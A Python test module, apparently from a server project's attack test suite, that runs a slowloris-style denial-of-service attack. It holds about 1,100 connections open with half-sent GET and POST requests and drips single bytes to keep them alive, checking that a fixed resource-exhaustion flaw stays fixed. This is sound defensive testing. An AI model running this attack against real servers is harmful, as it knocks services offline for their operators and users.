"""Send half a request and then single bytes, on more connections than files may be open.

Connections were not counted and requests had no timeout: 1,100 of them blocked the server for
as long as they were held.
"""

from __future__ import annotations

import asyncio
import time
from typing import TYPE_CHECKING

from tests.attacks.client import CONNECTION_ERRORS, repeat

if TYPE_CHECKING:
    from tests.attacks.client import Target

CONNECTIONS = 1100
DRIP_SECONDS = 3.0
HALVES = (
    b"GET / HTTP/1.1\r\nHost: example\r\nX-Slow: ",
    b"POST /api/tokens HTTP/1.1\r\nHost: example\r\nContent-Length: 60000\r\n\r\n{",
)


async def attack(target: Target, until: float) -> None:
    """Hold as many half-sent requests as the server allows."""

    async def hold(place: int) -> str:
        reader, writer = await target.open_connection()
        try:
            writer.write(HALVES[place % len(HALVES)])
            while time.monotonic() < until:
                await writer.drain()
                try:
                    async with asyncio.timeout(DRIP_SECONDS):
                        return "answered" if await reader.read(100) else "closed"
                except TimeoutError:
                    writer.write(b"x")
            return "held"
        except CONNECTION_ERRORS:
            return "closed"
        finally:
            writer.close()

    await repeat(target, target.scale(CONNECTIONS), until, hold)
